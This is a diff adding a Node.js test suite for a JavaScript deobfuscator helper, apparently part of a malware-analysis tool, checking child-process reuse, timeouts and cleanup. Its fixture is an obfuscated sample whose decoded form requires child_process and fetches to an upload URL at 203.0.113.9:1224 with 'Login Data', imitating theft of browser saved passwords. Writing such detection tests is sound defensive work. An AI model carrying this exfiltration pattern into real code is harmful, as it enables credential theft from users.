@@ -1,0 +1,77 @@
+import { describe, it, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { deobfuscate, deobfuscatorAvailable, deobfuscatorPid, stopDeobfuscator } from './deobfuscate.js';
+
+/** A small obfuscator.io-shaped program: string array, rotation loop (ends at once: index 3 holds '1'), accessor. */
+const SAMPLE = [
+  "function _0x1b2c(){const _0x5a1f3e=['child_process','Login\\x20Data','http://203.0.113.9:1224/uploads','1'];_0x1b2c=function(){return _0x5a1f3e;};return _0x1b2c();}",
+  'function _0x4e7a(_0x2d8f11,_0x3c9a22){const _0x1b2c33=_0x1b2c();return _0x4e7a=function(_0x4e7a44,_0x1a2b55){_0x4e7a44=_0x4e7a44-0x0;let _0x5c6d66=_0x1b2c33[_0x4e7a44];return _0x5c6d66;},_0x4e7a(_0x2d8f11,_0x3c9a22);}',
+  "(function(_0x3a1b77,_0x2c4d88){const _0x5e6f99=_0x4e7a,_0x1a2baa=_0x3a1b77();while(!![]){try{const _0x4c5dbb=parseInt(_0x5e6f99(0x3));if(_0x4c5dbb===_0x2c4d88)break;else _0x1a2baa['push'](_0x1a2baa['shift']());}catch(_0x3e4fcc){_0x1a2baa['push'](_0x1a2baa['shift']());}}}(_0x1b2c,0x1));",
+  'const _0x2f3a01=require(_0x4e7a(0x0));fetch(_0x4e7a(0x2),{body:_0x4e7a(0x1)});\n',
+].join('');
+
+/** Running (a zombie has exited: it waits only for its parent to reap it). */
+const alive = (pid: number) => {
+  try {
+    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
+  } catch {
+    return false;
+  }
+};
+const gone = async (pid: number) => {
+  for (let i = 0; i < 100 && alive(pid); i++) await new Promise((r) => setTimeout(r, 50));
+  return !alive(pid);
+};
+
+function decoded(): number {
+  const r = deobfuscate(SAMPLE);
+  assert.ok(r.ok, r.ok ? '' : r.error);
+  assert.match(r.code, /203\.0\.113\.9:1224/);
+  assert.match(r.code, /Login Data/);
+  const pid = deobfuscatorPid();
+  assert.ok(pid && alive(pid), 'the child stays up between calls');
+  return pid;
+}
+
+describe('deobfuscate: one warm child per thread', { skip: !deobfuscatorAvailable() && 'webcrack/isolated-vm not installed', timeout: 120_000 }, () => {
+  after(() => stopDeobfuscator());
+
+  it('a second call is answered by the same child, faster than a cold start', () => {
+    const t0 = performance.now();
+    const first = decoded();
+    const cold = performance.now() - t0;
+    const t1 = performance.now();
+    assert.equal(decoded(), first);
+    assert.ok(performance.now() - t1 < cold, 'the warm call costs less than the one that started node and webcrack');
+  });
+
+  it('a child killed from outside is respawned by the next call', async () => {
+    const pid = decoded();
+    process.kill(pid, 'SIGKILL');
+    assert.ok(await gone(pid));
+    const next = decoded();
+    assert.notEqual(next, pid);
+  });
+
+  it('a call over its time limit ends as an error (SIGKILL), and the next call gets a fresh child', async () => {
+    const pid = decoded();
+    const r = deobfuscate(SAMPLE, { timeoutMs: 1 });
+    assert.equal(r.ok, false);
+    assert.match(r.ok ? '' : r.error, /deobfuscator killed \(SIGKILL\) after \d+ ms/);
+    assert.ok(r.ms < 5_000, `answered after ${r.ms} ms`);
+    assert.ok(await gone(pid), 'the timed-out child is dead');
+    assert.notEqual(decoded(), pid);
+  });
+
+  it('input over the size limit is refused without a child', () => {
+    const r = deobfuscate('x'.repeat(100), { maxInputBytes: 10 });
+    assert.deepEqual([r.ok, r.ok ? '' : r.error], [false, 'input too large to deobfuscate']);
+  });
+
+  it('when the helper thread ends (the worker or the process is going away), its idle child exits by itself', async () => {
+    const pid = decoded();
+    await stopDeobfuscator();
+    assert.ok(await gone(pid), 'no orphaned deobfuscator');
+  });
+});
